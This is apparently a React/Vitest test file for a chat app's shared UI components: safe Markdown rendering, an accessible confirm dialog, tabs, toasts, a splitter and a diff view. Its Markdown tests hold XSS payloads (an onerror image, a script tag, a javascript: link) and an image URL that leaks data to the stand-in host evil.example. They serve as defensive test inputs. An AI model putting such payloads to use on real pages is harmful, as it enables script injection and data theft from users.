// The shared primitives: Markdown for untrusted text (no raw HTML, links only through app.openExternal,
// no images loaded, GFM and highlighted code), the accessible dialog (focus inside, Tab wraps, Escape,
// focus restored), tabs with arrow keys, toasts with an action, the splitter's keys and the diff view.
import { act, cleanup, fireEvent, render, screen, waitFor, within } from '@testing-library/react';
import { useState } from 'react';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { setApi } from '../../renderer/api';
import {
  Button,
  ConfirmDialog,
  DiffView,
  Markdown,
  Splitter,
  Tabs,
  Toaster,
  computeDiffLines,
  toast,
  useToasts,
} from '../../renderer/components';
import { loadHighlighter } from '../../renderer/components/highlighter';
import { createChatBackend, type ChatBackend } from './chat-backend';

let backend: ChatBackend;
beforeEach(() => {
  backend = createChatBackend();
  setApi(backend.api);
  useToasts.setState({ toasts: [] });
});
afterEach(() => {
  cleanup();
  setApi(null);
});

describe('Markdown', () => {
  it('drops raw HTML instead of rendering it', () => {
    const { container } = render(
      <Markdown text={'Hi <img src="x" onerror="alert(1)"> <script>alert(2)</script><b>bold</b>'} />,
    );
    expect(container.querySelector('img, script, b')).toBeNull();
    expect(container.innerHTML).not.toContain('onerror');
  });

  it('never loads an image: it shows the alt text instead', () => {
    const { container } = render(<Markdown text={'![my notes](https://evil.example/leak?data=secret)'} />);
    expect(container.querySelector('img')).toBeNull();
    expect(container.textContent).toContain('[image: my notes]');
    expect(container.innerHTML).not.toContain('evil.example');
  });

  it('a link click goes through app.openExternal and never navigates', async () => {
    const before = window.location.href;
    render(<Markdown text={'See [the docs](https://example.com/docs) and [this](javascript:alert(1)).'} />);
    const link = screen.getByRole('link', { name: 'the docs' });
    const event = new MouseEvent('click', { bubbles: true, cancelable: true });
    link.dispatchEvent(event);
    expect(event.defaultPrevented).toBe(true);
    await waitFor(() =>
      expect(backend.callsTo('app.openExternal')).toEqual([{ url: 'https://example.com/docs' }]),
    );
    expect(window.location.href).toBe(before);
    // A javascript: URL is not kept as a link target at all.
    expect(screen.getByText('this').closest('a')?.getAttribute('href') ?? '').not.toMatch(/javascript/i);
  });

  it('renders GFM (tables, task lists, strikethrough), and highlights fenced code once the highlighter is in', async () => {
    const text = [
      '| a | b |',
      '|---|---|',
      '| 1 | 2 |',
      '',
      '- [x] done',
      '',
      '~~old~~',
      '',
      '```ts',
      'const answer: number = 42;',
      '```',
    ].join('\n');
    const { container } = render(<Markdown text={text} />);
    expect(screen.getByRole('table')).toBeTruthy();
    expect(container.querySelector('input[type="checkbox"]')).toBeTruthy();
    expect(container.querySelector('del')?.textContent).toBe('old');
    expect(screen.getByRole('button', { name: 'Copy code' })).toBeTruthy();
    // The highlighter is its own chunk, loaded after start-up: until then the code is there, plain.
    expect(container.querySelector('pre code')?.textContent).toBe('const answer: number = 42;\n');
    expect(container.querySelector('.hljs-keyword')).toBeNull();
    await act(() => loadHighlighter());
    expect(container.querySelector('code.hljs .hljs-keyword')?.textContent).toBe('const');
  });
});

function DialogHarness(): React.ReactElement {
  const [open, setOpen] = useState(false);
  const [confirmed, setConfirmed] = useState(0);
  return (
    <>
      <Button onClick={() => setOpen(true)}>Delete things</Button>
      <p>confirmed {confirmed}</p>
      <ConfirmDialog
        open={open}
        title="Delete these things?"
        confirmLabel="Delete"
        danger
        onCancel={() => setOpen(false)}
        onConfirm={() => {
          setConfirmed((n) => n + 1);
          setOpen(false);
        }}
      >
        <p>They can be restored.</p>
      </ConfirmDialog>
    </>
  );
}

describe('Dialog and ConfirmDialog', () => {
  it('focuses Cancel, keeps Tab inside, closes on Escape and gives focus back', () => {
    render(<DialogHarness />);
    const opener = screen.getByRole('button', { name: 'Delete things' });
    opener.focus();
    fireEvent.click(opener);
    const dialog = screen.getByRole('alertdialog', { name: 'Delete these things?' });
    expect(dialog.getAttribute('aria-modal')).toBe('true');
    const cancel = within(dialog).getByRole('button', { name: 'Cancel' });
    expect(document.activeElement).toBe(cancel);

    const confirm = within(dialog).getByRole('button', { name: 'Delete' });
    confirm.focus();
    fireEvent.keyDown(confirm, { key: 'Tab' });
    // Tab from the last control wraps to the first (the dialog's Close button).
    expect(document.activeElement).toBe(within(dialog).getByRole('button', { name: 'Close' }));
    fireEvent.keyDown(document.activeElement!, { key: 'Tab', shiftKey: true });
    expect(document.activeElement).toBe(confirm);

    fireEvent.keyDown(dialog, { key: 'Escape' });
    expect(screen.queryByRole('alertdialog')).toBeNull();
    expect(document.activeElement).toBe(opener);
    expect(screen.getByText('confirmed 0')).toBeTruthy();

    fireEvent.click(opener);
    fireEvent.click(screen.getByRole('button', { name: 'Delete' }));
    expect(screen.getByText('confirmed 1')).toBeTruthy();
  });
});

describe('Tabs', () => {
  function TabsHarness(): React.ReactElement {
    const [active, setActive] = useState<'a' | 'b' | 'c'>('a');
    return (
      <Tabs
        label="Panels"
        active={active}
        onChange={setActive}
        items={[
          { key: 'a', label: 'Alpha', content: <p>alpha body</p> },
          { key: 'b', label: 'Beta', content: <p>beta body</p> },
          { key: 'c', label: 'Gamma', content: <p>gamma body</p> },
        ]}
      />
    );
  }

  it('arrow keys move between tabs; only the active panel is shown', () => {
    render(<TabsHarness />);
    const alpha = screen.getByRole('tab', { name: 'Alpha' });
    expect(alpha.getAttribute('aria-selected')).toBe('true');
    expect(screen.getByRole('tabpanel', { name: 'Alpha' }).textContent).toBe('alpha body');
    fireEvent.keyDown(alpha, { key: 'ArrowLeft' });
    const gamma = screen.getByRole('tab', { name: 'Gamma' });
    expect(gamma.getAttribute('aria-selected')).toBe('true');
    expect(document.activeElement).toBe(gamma);
    expect(screen.getByRole('tabpanel', { name: 'Gamma' }).textContent).toBe('gamma body');
    expect(screen.queryByRole('tabpanel', { name: 'Alpha' })).toBeNull();
    fireEvent.keyDown(gamma, { key: 'Home' });
    expect(screen.getByRole('tab', { name: 'Alpha' }).getAttribute('aria-selected')).toBe('true');
  });
});

describe('Toasts', () => {
  it('shows a message with an action that runs once and dismisses the toast', async () => {
    let undone = 0;
    render(<Toaster />);
    act(() => {
      toast('Deleted “notes.md”.', { action: { label: 'Undo', run: () => void undone++ } });
    });
    const region = screen.getByRole('region', { name: 'Notifications' });
    expect(region.textContent).toContain('Deleted “notes.md”.');
    fireEvent.click(within(region).getByRole('button', { name: 'Undo' }));
    expect(undone).toBe(1);
    expect(within(region).queryByText('Deleted “notes.md”.')).toBeNull();
  });
});

describe('Splitter', () => {
  it('is a focusable separator that arrow keys resize within its limits', () => {
    const seen: number[] = [];
    render(
      <Splitter
        label="Resize panel"
        value={300}
        min={200}
        max={400}
        direction={-1}
        onChange={(v) => seen.push(v)}
      />,
    );
    const sep = screen.getByRole('separator', { name: 'Resize panel' });
    expect(sep.getAttribute('aria-valuenow')).toBe('300');
    fireEvent.keyDown(sep, { key: 'ArrowLeft' });
    fireEvent.keyDown(sep, { key: 'ArrowRight', shiftKey: true });
    fireEvent.keyDown(sep, { key: 'End' });
    expect(seen).toEqual([316, 252, 400]);
  });
});

describe('DiffView', () => {
  it('marks added and removed lines and folds long unchanged runs', () => {
    const before = ['# Prefs', 'a', 'b', 'c', 'd', 'e', 'f', '- tea'].join('\n');
    const after = ['# Prefs', 'a', 'b', 'c', 'd', 'e', 'f', '- coffee'].join('\n');
    const lines = computeDiffLines(before, after);
    expect(lines.filter((l) => l.type === 'del').map((l) => l.text)).toEqual(['- tea']);
    expect(lines.filter((l) => l.type === 'add').map((l) => l.text)).toEqual(['- coffee']);
    expect(lines.some((l) => l.type === 'fold')).toBe(true);
    render(<DiffView before={null} after={'- likes tea'} label="Changes to /memories/p.md" />);
    const figure = screen.getByRole('figure', { name: 'Changes to /memories/p.md' });
    expect(figure.textContent).toContain('new file');
    expect(figure.textContent).toContain('added: - likes tea');
  });
});
